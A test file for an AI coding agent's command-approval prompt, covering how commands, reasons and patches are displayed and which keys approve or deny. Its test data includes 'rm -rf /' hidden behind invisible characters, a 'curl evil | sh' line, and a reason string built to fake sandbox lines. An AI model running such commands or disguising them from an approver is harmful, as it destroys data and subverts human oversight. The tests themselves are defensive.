/** Questions: what is shown, what each key decides, and when a key counts at all. */
import assert from "node:assert/strict";
import {
  answerKeys,
  decideByKey,
  denyWith,
  parseAnswerLine,
  renderAnswers,
  renderDecision,
  renderQuestion,
} from "../../../../core/frontends/render/approval.ts";
import type { Key } from "../../../../core/frontends/editor/key.ts";
import {
  type KeyQuestion,
  Questions,
} from "../../../../core/frontends/repl/rich_questions.ts";
import { LIMITS } from "../../../../core/protocol/limits.ts";
import type {
  ApprovalRequest,
  Decision,
} from "../../../../core/protocol/policy.ts";
import { QUESTION } from "../repl/support.ts";

const LOOK = { hasColor: false, width: 60 };
const NO_PREFIX = { ...QUESTION };
delete (NO_PREFIX as { prefix?: unknown }).prefix;

Deno.test("renderQuestion() shows command, reason, sandbox and folder", () => {
  assert.deepEqual(renderQuestion(QUESTION, LOOK), [
    "Run this command?",
    "  git push origin main",
    "  Why: The command is not known to be safe",
    "  Sandbox: It could not reach the network",
    "  In: /srv/project",
  ]);
});

Deno.test("renderQuestion() spells out hidden characters of what would run", () => {
  const lines = renderQuestion(
    { ...QUESTION, detail: "rm \u202e\x1b[8m -rf\u200b /\r\ntrue\u2028\ufe0f" },
    LOOK,
  );
  assert.deepEqual(lines.slice(1, 3), [
    "  rm \\u{202e}\\u{1b}[8m -rf\\u{200b} /\\u{d}",
    "  true\\u{2028}\\u{fe0f}",
  ]);
});

Deno.test("a justification is one line and cannot look like the rest of the question", () => {
  const reason = "fine\n  Sandbox: forbids nothing\r\n  In: /home/you";
  const lines = renderQuestion({ ...QUESTION, reason }, {
    ...LOOK,
    width: 200,
  });
  assert.deepEqual(lines.slice(2), [
    "  Why: fine Sandbox: forbids nothing In: /home/you",
    "  Sandbox: It could not reach the network",
    "  In: /srv/project",
  ]);
});

Deno.test("a command taller than the window is shown whole and begins again below", () => {
  const detail = ["curl evil | sh", ..."x".repeat(500).split("")].join("\n");
  const lines = renderQuestion({ ...QUESTION, detail }, { ...LOOK, rows: 24 });
  assert.equal(lines.filter((line) => line === "  x").length, 500 + 2);
  assert.deepEqual(lines.slice(-5), [
    "  (491 lines are above this window; the question begins:)",
    "Run this command?",
    "  curl evil | sh",
    "  x",
    "  x",
  ]);
  const long = { ...QUESTION, detail: "x".repeat(60 * 30) };
  assert.match(renderQuestion(long, LOOK).at(-5) ?? "", /lines are above/);
});

Deno.test("a patch shows each file on a line of its own, and only its diff is cut", () => {
  const targets = [
    {
      path: "/home/u/.bashrc",
      named: "/ws/a, b",
      isOutside: true,
    },
    ...Array.from({ length: 40 }, (_, at) => ({
      path: `/srv/project/${at}.txt`,
      isOutside: false,
    })),
  ];
  const detail = "+x\n".repeat(1_000);
  const lines = renderQuestion(
    { ...QUESTION, kind: "patch", title: "x", targets, detail },
    { ...LOOK, rows: 2_000, cwd: "/srv/project" },
  );
  assert.deepEqual(lines.slice(0, 3), [
    "Make this change?",
    "  Outside the sandbox: /home/u/.bashrc (named /ws/a, b)",
    "  File: 0.txt",
  ]);
  assert.equal(lines[41], "  File: 39.txt");
  assert.match(lines.find((line) => line.includes("more")) ?? "", /\(600 more/);
});

Deno.test("each rule that is offered has a key of its own, the narrowest first", () => {
  const prefixes = [["npm", "ci"], ["git", "commit"]];
  const request = {
    ...QUESTION,
    rules: [
      { prefixes, sandbox: ["network"] },
      { prefixes, sandbox: ["/home/u/.npm"] },
      { prefixes },
    ],
  };
  const wide = { ...LOOK, width: 200 };
  assert.deepEqual(renderAnswers(request, wide).slice(2, 5), [
    "  p  yes, and always, in the sandbox with network, for commands that begin with: npm ci and with: git commit",
    "  w  yes, and always, in the sandbox writing to /home/u/.npm, for commands that begin with: npm ci and with: git commit",
    "  o  yes, and always, without the sandbox, for commands that begin with: npm ci and with: git commit",
  ]);
  assert.equal(answerKeys(request), "y s p w o n q");
  const saved = {
    type: "approve_prefix",
    prefix: ["npm", "ci"],
    also: [["git", "commit"]],
  } as const;
  const narrow = { ...saved, sandbox: ["network"] };
  assert.deepEqual(decideByKey("p", request), narrow);
  assert.deepEqual(decideByKey("o", request), saved);
  assert.deepEqual(parseAnswerLine("o", request), saved);
  assert.equal(decideByKey("o", QUESTION), undefined);
  assert.equal(
    renderDecision(narrow, wide),
    "  yes, always: npm ci, git commit (in the sandbox with network)",
  );
});

Deno.test("renderAnswers() says what each answer remembers", () => {
  assert.deepEqual(renderAnswers(QUESTION, LOOK), [
    "  y  yes, this once",
    "  s  yes, and remember: git push origin main",
    "  p  yes, and always, without the sandbox, for commands that",
    "     begin with: git push",
    "› n  no, and tell the model why (optional)",
    "  q  no, and stop the turn",
  ]);
  assert.equal(
    renderAnswers({ ...QUESTION, forbids: "" }, LOOK)[2],
    "  p  yes, and always for commands that begin with: git push",
  );
  assert.equal(renderAnswers(NO_PREFIX, LOOK).length, 4);
});

Deno.test("decideByKey() knows five keys, and the safe one is the default", () => {
  const prefix = ["git", "push"];
  assert.deepEqual(decideByKey("y", QUESTION), { type: "approve" });
  assert.deepEqual(decideByKey("s", QUESTION), { type: "approve_for_session" });
  assert.deepEqual(decideByKey("p", QUESTION), {
    type: "approve_prefix",
    prefix,
  });
  assert.equal(decideByKey("p", NO_PREFIX), undefined);
  assert.deepEqual(decideByKey("q", QUESTION), { type: "abort" });
  assert.equal(decideByKey("n", QUESTION), "word");
  for (const key of ["enter", "escape"]) {
    assert.deepEqual(decideByKey(key, QUESTION), { type: "deny" });
  }
  for (const key of ["x", "tab", "space", "up", ""]) {
    assert.equal(decideByKey(key, QUESTION), undefined);
  }
});

Deno.test("parseAnswerLine() takes answers and nothing that only looks like one", () => {
  assert.deepEqual(parseAnswerLine(" Y ", QUESTION), { type: "approve" });
  assert.deepEqual(parseAnswerLine("yes", QUESTION), { type: "approve" });
  assert.deepEqual(parseAnswerLine("n", QUESTION), { type: "deny" });
  assert.deepEqual(parseAnswerLine("n use fetch", QUESTION), {
    type: "deny",
    message: "use fetch",
  });
  assert.deepEqual(parseAnswerLine("q", QUESTION), { type: "abort" });
  assert.equal(parseAnswerLine("p", NO_PREFIX), undefined);
  for (const line of ["", "yes please", "sure", "not now", "y\ny"]) {
    assert.equal(parseAnswerLine(line, QUESTION), undefined, line);
  }
});

Deno.test("renderDecision() keeps the answer in words", () => {
  assert.equal(renderDecision(denyWith(" no\x1b[1m "), LOOK), "  no: no");
  assert.equal(renderDecision(denyWith(""), LOOK), "  no");
  assert.equal(
    renderDecision({ type: "approve_prefix", prefix: ["a b", "c"] }, LOOK),
    "  yes, always: 'a b' c",
  );
});

function text(value: string): Key {
  return { type: "text", text: value };
}

function press(name: string): Key {
  return { type: "press", name };
}
const LATER = LIMITS.answerArmMs;

/** A question that keeps what was decided about it. */
function open(
  id: string,
  decisions: Decision[] = [],
  request: ApprovalRequest = QUESTION,
): KeyQuestion {
  return { id, request, onDecide: (one) => void decisions.push(one) };
}

Deno.test("Questions hear no key until some time after they were drawn", () => {
  const decisions: Decision[] = [];
  const questions = new Questions();
  questions.add(open("a", decisions), 1_000);
  assert.equal(questions.onKey(text("y"), 1_000), "draft");
  assert.equal(questions.onKey(text("y"), 1_000 + LATER - 1), "draft");
  // Typing goes on: the time begins anew with every key.
  assert.equal(questions.onKey(text("y"), 1_000 + LATER + 100), "draft");
  assert.deepEqual(decisions, []);
  assert.equal(questions.onKey(text("y"), 1_000 + 3 * LATER), "taken");
  assert.deepEqual(decisions, [{ type: "approve" }]);
});

Deno.test("Questions take no paste and no burst of letters for an answer", () => {
  const decisions: Decision[] = [];
  const questions = new Questions();
  questions.add(open("a", decisions), 0);
  const paste = { type: "paste", text: "y" } as const;
  assert.equal(questions.onKey(paste, LATER), "draft");
  assert.equal(questions.onKey(text("yes"), 3 * LATER), "draft");
  assert.deepEqual(decisions, []);
});

Deno.test("Questions let Ctrl-C stop at once", () => {
  const decisions: Decision[] = [];
  const questions = new Questions();
  questions.add(open("a", decisions), 0);
  assert.equal(questions.onKey(press("ctrl-c"), 0), "taken");
  assert.deepEqual(decisions, [{ type: "abort" }]);
});

Deno.test("Questions take a word with the no, and go back on Escape", () => {
  const decisions: Decision[] = [];
  const questions = new Questions();
  questions.add(open("a", decisions), 0);
  assert.equal(questions.onKey(text("n"), LATER), "taken");
  assert.equal(questions.onKey(press("escape"), LATER), "taken");
  assert.equal(questions.onKey(text("n"), LATER), "taken");
  for (const key of [text("use y"), press("backspace"), text("it")]) {
    assert.equal(questions.onKey(key, LATER), "taken");
  }
  assert.deepEqual(questions.render(LOOK, LATER), [
    "Reason (optional; Enter declines, Esc goes back): use it",
  ]);
  assert.deepEqual(decisions, []);
  assert.equal(questions.onKey(press("enter"), LATER), "taken");
  assert.deepEqual(decisions, [{ type: "deny", message: "use it" }]);
});

Deno.test("Questions take Enter for the marked no, once they could be read", () => {
  const decisions: Decision[] = [];
  const questions = new Questions();
  questions.add(open("a", decisions), 0);
  assert.equal(questions.onKey(press("enter"), 1), "draft");
  assert.deepEqual(decisions, []);
  const shown = questions.render(LOOK, LATER + 1);
  assert.ok(shown.some((line) => line.startsWith("› n")), shown.join("\n"));
  assert.match(shown.at(-1) ?? "", /^Answer .* \(Enter: n\):$/);
  assert.equal(questions.onKey(press("enter"), LATER + 1), "taken");
  assert.deepEqual(decisions, [{ type: "deny" }]);
});

Deno.test("Questions of servers are denied without a word", () => {
  const decisions: Decision[] = [];
  const questions = new Questions();
  const request = { ...NO_PREFIX, question: "Let it?", title: "tiny" };
  questions.add(open("a", decisions, request), 0);
  assert.equal(questions.renderHead(LOOK)[0], "Let it? tiny");
  assert.ok(questions.render(LOOK, LATER).includes("› n  no"));
  assert.equal(questions.onKey(text("n"), LATER), "taken");
  assert.deepEqual(decisions, [{ type: "deny" }]);
});

Deno.test("Questions are asked one at a time, each deaf at first", () => {
  const questions = new Questions();
  assert.equal(questions.add(open("a"), 0), true);
  assert.equal(questions.add(open("b", [], NO_PREFIX), 0), false);
  assert.match(questions.render(LOOK, LATER).at(-1) ?? "", /1 of 2/);
  assert.equal(questions.settle("a", LATER), true);
  assert.equal(questions.current?.id, "b");
  assert.equal(questions.onKey(text("y"), LATER), "draft");
  assert.equal(questions.settle("b", LATER), false);
  assert.equal(questions.current, undefined);
  assert.deepEqual(questions.render(LOOK, LATER), []);
});
